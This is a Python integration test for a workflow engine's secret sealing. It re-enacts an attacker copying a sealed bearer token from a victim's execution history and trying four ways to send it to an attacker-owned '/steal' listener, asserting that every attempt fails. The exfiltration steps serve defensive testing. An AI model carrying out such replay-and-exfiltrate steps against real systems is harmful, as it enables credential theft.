"""The replayed-secret attack, step by step as an outsider did it: read a sealed bearer
token out of an execution's history, create a plan whose HTTP call goes to a listener of
one's own (through the plan API), and run it with the copied value; then the same with
the victim's execution id reused, with a re-run pointed at the listener, and with the value
filled into a step that waits for it. The listener must receive nothing."""

from __future__ import annotations

import base64
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
import pytest_asyncio
from fastapi import FastAPI, Request
from temporalio.client import Client, WorkflowFailureError, WorkflowUpdateFailedError
from temporalio.testing import WorkflowEnvironment

from api.app import create_app
from nightwatch.codec import KeyRing
from nightwatch.config import load_settings
from nightwatch.temporal import data_converter
from runtime.worker import build_worker
from tests.support import (
    Cli,
    Say,
    bearer,
    cli_env,
    serve,
    served_api,
    token_for,
    wait_until_async,
)
from workflows.execution import PlanExecutionWorkflow
from workflows.models import ExecutionInput, Fill

KEY = base64.b64encode(b"a" * 32).decode()
RING = KeyRing.parse([f"attack-1:{KEY}"], source="test")
SECRET = "victim-token-4be1c9"


@pytest.fixture
def listener() -> Iterator[tuple[str, list[dict[str, str]]]]:
    """The attacker's own HTTP server: it records every request that reaches it."""
    received: list[dict[str, str]] = []
    app = FastAPI()

    @app.get("/steal")  # HTTP_CALL steps call GET by default
    async def steal(request: Request) -> dict[str, str]:
        received.append(dict(request.headers))
        return {"thanks": "yes"}

    with serve(app) as url:
        yield f"{url}/steal", received


@pytest_asyncio.fixture
async def setup(
    dev_env: WorkflowEnvironment, engine_db: str, task_queue: str, tmp_path: Path
) -> AsyncIterator[tuple[Cli, Client, str]]:
    target = dev_env.client.service_client.config.target_host
    keys = f"attack-1:{KEY}"
    with served_api(engine_db, target, task_queue=task_queue, payload_keys=keys) as api_url:
        env = cli_env(
            engine_db,
            target,
            task_queue,
            api_url,
            NIGHTWATCH_PAYLOAD_KEYS=keys,
            NIGHTWATCH_HOME=str(tmp_path / "home"),
        )
        client = await Client.connect(target, data_converter=data_converter(RING))
        async with build_worker(client, task_queue, engine_db, RING):
            yield Cli(env, tmp_path), client, engine_db


def _plan(name: str, url: str, **step: Any) -> dict[str, Any]:
    call = {"name": "call", "action": "HTTP_CALL", "params": {"url": url}, **step}
    return {"name": name, "scene": "EMERGENCY", "steps": [call]}


async def _sealed_in(client: Client, execution: str) -> str:
    """What a reader of the history sees (the Web UI decodes it through the codec endpoint):
    the sealed value in the execution's input."""
    history = await client.get_workflow_handle(execution).fetch_history()
    started = history.events[0].workflow_execution_started_event_attributes
    [params] = await client.data_converter.decode(started.input.payloads, [ExecutionInput])
    value: str = params.overrides["1"]["bearer_token"]
    return value


@pytest.mark.devserver
async def test_a_copied_sealed_secret_never_reaches_another_place(
    setup: tuple[Cli, Client, str],
    listener: tuple[str, list[dict[str, str]]],
    simulator_url: str,
    say: Say,
) -> None:
    cli, client, db = setup
    url, received = listener
    plan_api = httpx.AsyncClient(
        transport=httpx.ASGITransport(app=create_app(load_settings(database_url=db))),
        base_url="http://api",
        headers=bearer(token_for(db, "mallory", ["admin"])),
    )
    # The victim: an operator runs a plan with a secret given at start.
    created = await plan_api.post(
        "/api/v1/plans", json=_plan("victim", f"{simulator_url}/probe/victim")
    )
    assert created.status_code == 201, created.text
    code, out, err = await cli(
        "run", "victim", "--id", "exec-victim", "--set", f"1.bearer_token={SECRET}", "--wait"
    )
    assert code == 0, (out, err)
    sealed = await _sealed_in(client, "exec-victim")
    assert sealed.startswith("sealed:v2:") and SECRET not in sealed
    say(f"copied from the victim's history: {sealed[:32]}…")

    # 1. The copied value in a plan of one's own, calling one's own listener.
    created = await plan_api.post("/api/v1/plans", json=_plan("exfil", url))
    assert created.status_code == 201, created.text
    code, out, err = await cli(
        "run", "exfil", "--id", "exec-exfil", "--set", f"1.bearer_token={sealed}", "--wait"
    )
    view = await client.get_workflow_handle("exec-exfil").query(PlanExecutionWorkflow.get_state)
    [node] = view.nodes
    assert node.state == "FAILED_WAITING" and node.attempts == 1, node
    assert "not sealed for this execution, node and parameter" in (node.error or "")
    say(f"1. own plan, copied value: step 1 {node.state}: {node.error}")

    # 2. The victim's execution id again (ended: Temporal would allow the id).
    code, out, err = await cli(
        "run", "exfil", "--id", "exec-victim", "--set", f"1.bearer_token={sealed}"
    )
    assert code == 1 and "execution exec-victim: was used by an earlier execution" in err, err
    say(f"2. the victim's id reused: {err.strip()}")
    # 2b. The same with a raw client (as the Web UI starts workflows): the database refuses.
    reused = await client.start_workflow(
        PlanExecutionWorkflow.run,
        ExecutionInput(plan="exfil", overrides={"1": {"bearer_token": sealed}}),
        id="exec-victim",
        task_queue=cli.env["NIGHTWATCH_TASK_QUEUE"],
    )
    with pytest.raises(WorkflowFailureError) as failed:
        await reused.result()
    assert "execution exec-victim: the id was used already" in str(failed.value.cause)
    say(f"2b. the victim's id reused from a raw client: {failed.value.cause}")

    # 3. A re-run of the victim's execution, its URL pointed at the listener.
    code, out, err = await cli("rerun", "exec-victim", "--from", "1", "--set", f"1.url={url}")
    assert code == 1 and "goes only to the same step with the same parameters" in err, err
    say(f"3. re-run towards the listener: {err.strip()}")

    # 4. Filled into a step that waits for a bearer token.
    created = await plan_api.post(
        "/api/v1/plans", json=_plan("exfil fill", url, pending=["bearer_token"])
    )
    assert created.status_code == 201, created.text
    code, out, err = await cli("run", "exfil fill", "--id", "exec-exfil-fill")
    handle = client.get_workflow_handle("exec-exfil-fill")
    await _node_state(handle, "WAITING_PARAMETERS")
    try:
        await handle.execute_update(
            PlanExecutionWorkflow.fill_parameters,
            Fill(node="1", user="mallory", values={"bearer_token": sealed}),
        )
    except WorkflowUpdateFailedError as exc:  # refused before it runs: also fine
        say(f"4. filled: refused ({exc.cause})")
    else:
        view = await _node_state(handle, "FAILED_WAITING")
        say(f"4. filled: step 1 {view.nodes[0].state}: {view.nodes[0].error}")
    await plan_api.aclose()

    assert received == [], received
    say("the listener received nothing; the victim's own re-run still works:")
    code, out, err = await cli("rerun", "exec-victim", "--from", "1", "--wait")
    assert code == 0, (out, err)


async def _node_state(handle: Any, state: str) -> Any:
    seen: list[Any] = []

    async def reached() -> bool:
        seen[:] = [await handle.query(PlanExecutionWorkflow.get_state)]
        return bool(seen[0].nodes) and seen[0].nodes[0].state == state

    await wait_until_async(reached, within=30, what=f"node 1 {state} (seen {seen})")
    return seen[0]
